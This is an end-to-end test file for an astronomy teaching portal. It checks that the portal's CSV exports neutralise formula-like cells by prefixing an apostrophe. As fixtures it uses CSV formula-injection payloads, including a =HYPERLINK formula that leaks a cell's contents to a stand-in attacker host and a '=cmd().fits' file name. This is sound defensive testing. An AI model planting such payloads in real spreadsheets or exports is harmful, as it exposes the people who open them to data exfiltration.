import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { writeSyntheticFrame } from '../src/teaching-pipelines/synthetic-frames';
import { createTarget, LoggedIn, startTestPortal, TestPortal, waitForRun } from './utils/test-app';

/**
 * CSV cells that spreadsheets run (issue 12, item 7): every CSV the portal writes goes through its one writer
 * (src/common/csv-writer.ts), so a text cell that starts like a formula gets an apostrophe, while numbers, negative
 * ones included, stay numbers; and the portal's photometry reader reads its own exports back unchanged.
 */
describe('CSV formula cells (e2e)', () => {
  let portal: TestPortal;
  let teacher: LoggedIn;
  let dir: string;
  let targetId: number;

  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
  const q = (sql: string, params: unknown[] = []) => portal.dataSource.query(sql, params);

  /** Every cell of a CSV text (RFC 4180 quoting), row by row. */
  function cells(csv: string): string[][] {
    const rows: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    const endCell = () => {
      row.push(cell);
      cell = '';
    };
    for (let i = 0; i < csv.length; i++) {
      const c = csv[i];
      if (quoted && c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = !quoted;
      } else if (quoted || (c !== ',' && c !== '\n' && c !== '\r')) {
        cell += c;
      } else if (c === ',') {
        endCell();
      } else {
        if (c === '\r' && csv[i + 1] === '\n') i++;
        endCell();
        rows.push(row);
        row = [];
      }
    }
    if (cell || row.length) {
      endCell();
      rows.push(row);
    }
    return rows;
  }

  /** No cell a spreadsheet would run: one starting with = + - @ tab or CR is a plain number or starts with an apostrophe. */
  function expectNoFormulas(csv: string) {
    for (const cell of cells(csv).flat()) {
      if (/^\s*[=+\-@\t\r]/.test(cell)) expect([cell, /^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i.test(cell)]).toEqual([cell, true]);
    }
  }

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-formulas-'));
    const config = path.join(dir, 'pipelines.config.json');
    fs.writeFileSync(config, JSON.stringify({ pipelines: { 'Header summary': 'builtin:header-summary', Inspect: 'builtin:inspect' } }));
    portal = await startTestPortal({ pipelinesConfig: config });
    teacher = await portal.login('ms-lee', 'teacher');
    targetId = await createTarget(teacher, { name: 'Formula star', ra: '250.4', dec: '36.4' });
  });
  afterAll(async () => {
    await portal.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('photometry and light-curve exports: formula-like filters and sources are text, negative magnitudes numbers, and they read back as they were', async () => {
    const added = await teacher.agent
      .post(`/api/targets/${targetId}/reduced-data`)
      .set('X-CSRF-Token', teacher.csrf)
      .send({
        source: '@notebook',
        points: [
          { timestamp: '2013-05-05T04:31:02Z', magnitude: -1.5, error: 0.02, filter: HYPERLINK.slice(0, 32) },
          { timestamp: '2013-05-05T04:41:02Z', magnitude: 12.25, error: 0.03, filter: '-B' },
          { timestamp: '2013-05-05T04:51:02Z', magnitude: 3, filter: '+1' },
        ],
      })
      .expect(201);
    expect(added.body.added).toBe(3);

    const api = await teacher.agent.get(`/api/targets/${targetId}/photometry.csv`).expect(200);
    const page = await teacher.agent.get(`/targets/${targetId}/light-curve.csv`).expect(200);
    for (const csv of [api.text, page.text]) {
      expectNoFormulas(csv);
      const rows = cells(csv);
      expect(rows[0]).toEqual(['time', 'mjd', 'magnitude', 'error', 'filter', 'source']);
      const byTime = new Map(rows.slice(1).map((row) => [row[0], row]));
      expect(byTime.get('2013-05-05T04:31:02.000Z')!.slice(2, 5)).toEqual(['-1.5', '0.02', `'${HYPERLINK.slice(0, 32)}`]);
      expect(byTime.get('2013-05-05T04:41:02.000Z')!.slice(2, 5)).toEqual(['12.25', '0.03', "'-B"]);
      // "+1" is a plain number: left as it is, like the magnitudes.
      expect(byTime.get('2013-05-05T04:51:02.000Z')!.slice(2, 5)).toEqual(['3', '', '+1']);
      expect(byTime.get('2013-05-05T04:31:02.000Z')![5]).toMatch(/^ms-lee · API batch/);
    }

    // The round trip: the export uploaded as a photometry file gives the same points back.
    const other = await createTarget(teacher, { name: 'Round trip', ra: '10', dec: '10' });
    const upload = await teacher.agent
      .post(`/targets/${other}/data-products?_csrf=${encodeURIComponent(teacher.csrf)}`)
      .set('Accept', 'application/json')
      .field('productType', 'photometry')
      .attach('files', Buffer.from(api.text), 'export.csv')
      .expect(201);
    expect(upload.body.pointsAdded).toBe(3);
    const back = await q(`SELECT timestamp, value FROM reduced_data WHERE target_id = $1 ORDER BY timestamp`, [other]);
    expect(back.map((row: { value: unknown }) => row.value)).toEqual([
      { magnitude: -1.5, error: 0.02, filter: HYPERLINK.slice(0, 32) },
      { magnitude: 12.25, error: 0.03, filter: '-B' },
      { magnitude: 3, error: null, filter: '+1' },
    ]);
  });

  it('the header-summary and inspect outputs write a FITS OBJECT of =HYPERLINK(...) as text (it was written unchanged)', async () => {
    const frame = path.join(dir, 'formula.fits');
    writeSyntheticFrame(frame, { width: 40, height: 40, cards: { OBJECT: HYPERLINK.slice(0, 60), FILTER: '@V', EXPTIME: 5, 'DATE-OBS': '2024-01-02T03:04:05' } });
    const uploaded = await teacher.agent
      .post(`/targets/${targetId}/data-products?_csrf=${encodeURIComponent(teacher.csrf)}`)
      .set('Accept', 'application/json')
      .field('productType', 'fits_image')
      .attach('files', frame, '=cmd().fits')
      .expect(201);
    const productId = uploaded.body.created[0].id;

    for (const [pipeline, output] of [
      ['Header summary', 'header_summary.csv'],
      ['Inspect', 'inspect.csv'],
    ]) {
      const started = await teacher.agent
        .post(`/targets/${targetId}/pipeline-runs`)
        .type('form')
        .send({ pipeline, productIds: [String(productId)], _csrf: teacher.csrf })
        .expect(303);
      const runId = Number(/\/pipeline\/(\d+)/.exec(started.headers.location)![1]);
      const run = await waitForRun(portal, runId, ['succeeded', 'failed']);
      expect([pipeline, run.state, run.failure_message]).toEqual([pipeline, 'succeeded', null]);
      const [product] = await q(
        `SELECT p.id FROM data_products p JOIN data_product_group_members m ON m.data_product_id = p.id WHERE m.group_id = $1 AND p.original_name = $2`,
        [run.output_group_id, output],
      );
      const csv = (await teacher.agent.get(`/data-products/${product.id}/download`).buffer(true).expect(200)).text;
      expectNoFormulas(csv);
      const [header, row] = cells(csv);
      const column = (name: string) => row[header.indexOf(name)];
      expect([pipeline, column('file'), column('object'), column('filter'), column('exptime')]).toEqual([
        pipeline,
        "'=cmd().fits",
        `'${HYPERLINK.slice(0, 60)}`,
        "'@V",
        '5',
      ]);
    }
  });

  it('the login cards CSV writes names that look like formulas as text', async () => {
    const created = await teacher.agent.post('/classes').type('form').send({ name: '=Year 10', _csrf: teacher.csrf }).expect(303);
    const classId = Number(/\/classes\/(\d+)$/.exec(created.headers.location)![1]);
    const roster = 'name\n"=HYPERLINK(""http://evil.example"",""Ada"")"\n-Bob Smith\n@Carl\n';
    const cards = await teacher.agent
      .post(`/classes/${classId}/import/confirm?_csrf=${encodeURIComponent(teacher.csrf)}`)
      .set('Accept', 'text/html')
      .field('csv', roster)
      .expect(201);
    const downloadUrl = /href="(\/classes\/\d+\/login-cards\/[^"]+)"/.exec(cards.text)![1];
    const csv = (await teacher.agent.get(downloadUrl).expect(200)).text;
    expectNoFormulas(csv);
    const rows = cells(csv);
    expect(rows[0]).toEqual(['name', 'username', 'password', 'class', 'portal']);
    expect(rows.slice(1).map((row) => [row[0], row[3]])).toEqual([
      [`'=HYPERLINK("http://evil.example","Ada")`, "'=Year 10"],
      ["'-Bob Smith", "'=Year 10"],
      ["'@Carl", "'=Year 10"],
    ]);
  });
});
